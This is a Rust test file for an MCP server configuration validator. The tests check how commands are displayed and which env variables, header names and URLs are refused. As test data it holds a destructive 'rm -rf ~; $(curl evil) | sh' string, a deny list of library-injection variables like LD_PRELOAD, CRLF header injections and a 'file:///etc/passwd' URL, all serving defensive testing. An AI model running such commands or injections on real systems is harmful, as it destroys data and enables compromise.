//! What the user is told of a server, and what none may be.

use super::*;

fn program() -> McpServer {
    McpServer { command: "npx".into(), args: vec!["-y".into(), "a b".into()], ..McpServer::default() }
}

#[test]
fn a_command_is_shown_whole_with_metacharacters_as_they_are() {
    // bar: C58
    let args = ["-c", "rm -rf ~; $(curl evil) | sh", "it's", ""].map(String::from).to_vec();
    let server = McpServer { command: "/bin/sh".into(), args, ..McpServer::default() };
    assert_eq!(server.runs(), r#"/bin/sh -c 'rm -rf ~; $(curl evil) | sh' 'it'\''s' ''"#);
    let env = BTreeMap::from([("NODE_OPTIONS".to_owned(), "--require ./x.js".to_owned())]);
    let server = McpServer { env, keys: BTreeSet::from(["TOKEN".into()]), ..program() };
    assert_eq!(server.runs(), "NODE_OPTIONS='--require ./x.js' TOKEN=(from the keychain) npx -y 'a b'");
}

#[test]
fn nothing_is_set_for_a_server_that_would_be_run_before_its_sandbox() {
    for name in ["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "PATH", "GCONV_PATH"] {
        let env = BTreeMap::from([(name.to_owned(), "./x.so".to_owned())]);
        assert!(McpServer::validate("pond", &McpServer { env, ..program() }).is_err(), "{name}");
        let keys = BTreeSet::from([name.to_owned()]);
        assert!(McpServer::validate("pond", &McpServer { keys, ..program() }).is_err(), "{name}");
    }
}

#[test]
fn a_name_is_short_ascii_and_of_one_case() {
    for name in ["pond", "git-hub", "a1"] {
        assert_eq!(McpServer::validate(name, &program()), Ok(()), "{name}");
    }
    for name in ["", "Pond", "pönd", "1a", "a_b", "a--b", "a b", "web", &"a".repeat(25)] {
        assert!(McpServer::validate(name, &program()).is_err(), "{name}");
    }
}

#[test]
fn an_address_that_no_server_can_have_is_refused() {
    // bar: C59
    for url in ["javascript:alert(1)", "file:///etc/passwd", "http://example.com/mcp", "ftp://a.example"] {
        let server = McpServer { url: url.into(), ..McpServer::default() };
        assert!(McpServer::validate("pond", &server).is_err(), "{url}");
    }
    for url in ["https://mcp.example/mcp", "http://127.0.0.1:8000/mcp"] {
        let server = McpServer { url: url.into(), ..McpServer::default() };
        assert_eq!(McpServer::validate("pond", &server), Ok(()), "{url}");
    }
}

fn at_address(keys: &[&str]) -> McpServer {
    let keys = keys.iter().map(|key| (*key).to_owned()).collect();
    McpServer { url: "https://mcp.example/mcp".into(), keys, ..McpServer::default() }
}

#[test]
fn a_key_is_a_header_that_decides_nothing_of_the_protocol_and_is_shown() {
    for name in ["Authorization", "X-Api-Key", "api_key", "Cookie"] {
        assert_eq!(McpServer::validate("pond", &at_address(&[name])), Ok(()), "{name}");
    }
    for name in [
        "",
        "X Key",
        "X-Key:",
        "X-Key\r\nHost",
        "clé",
        "Host",
        "content-length",
        "Transfer-Encoding",
        "Connection",
        "Accept",
        "Content-Type",
        "Last-Event-ID",
        "Mcp-Session-Id",
        "MCP-Protocol-Version",
        "mcp-param-x",
    ] {
        assert!(McpServer::validate("pond", &at_address(&[name])).is_err(), "{name}");
    }
    assert!(McpServer::validate("pond", &at_address(&["X-Key", "x-key"])).is_err());
    assert_eq!(
        at_address(&["Authorization", "X-Key"]).runs(),
        "https://mcp.example/mcp with Authorization, X-Key (from the keychain)"
    );
    assert_eq!(at_address(&[]).runs(), "https://mcp.example/mcp");
    assert_eq!(at_address(&["authorization", "x"]).authorization(), Some("authorization"));
    assert_eq!(at_address(&["Cookie"]).authorization(), None);
}

#[test]
fn what_runs_otherwise_is_on_or_has_more_is_looser() {
    let agreed = |does| AgreedTool { hash: "h".into(), does };
    let with = |does| McpServer { tools: BTreeMap::from([("look".into(), agreed(does))]), ..program() };
    let old = with(ToolDoes::Edits);
    assert!(!old.is_looser_than(Some(&old)));
    assert!(!with(ToolDoes::Anything).is_looser_than(Some(&old)));
    assert!(!program().is_looser_than(Some(&old)));
    assert!(!McpServer { off: true, ..old.clone() }.is_looser_than(Some(&old)));
    assert!(old.is_looser_than(None));
    assert!(with(ToolDoes::Looks).is_looser_than(Some(&old)));
    assert!(old.is_looser_than(Some(&McpServer { off: true, ..old.clone() })));
    assert!(McpServer { unconfined: true, ..old.clone() }.is_looser_than(Some(&old)));
    let mut other = old.clone();
    other.tools.insert("look".into(), AgreedTool { hash: "other".into(), does: ToolDoes::Edits });
    assert!(other.is_looser_than(Some(&old)));
}
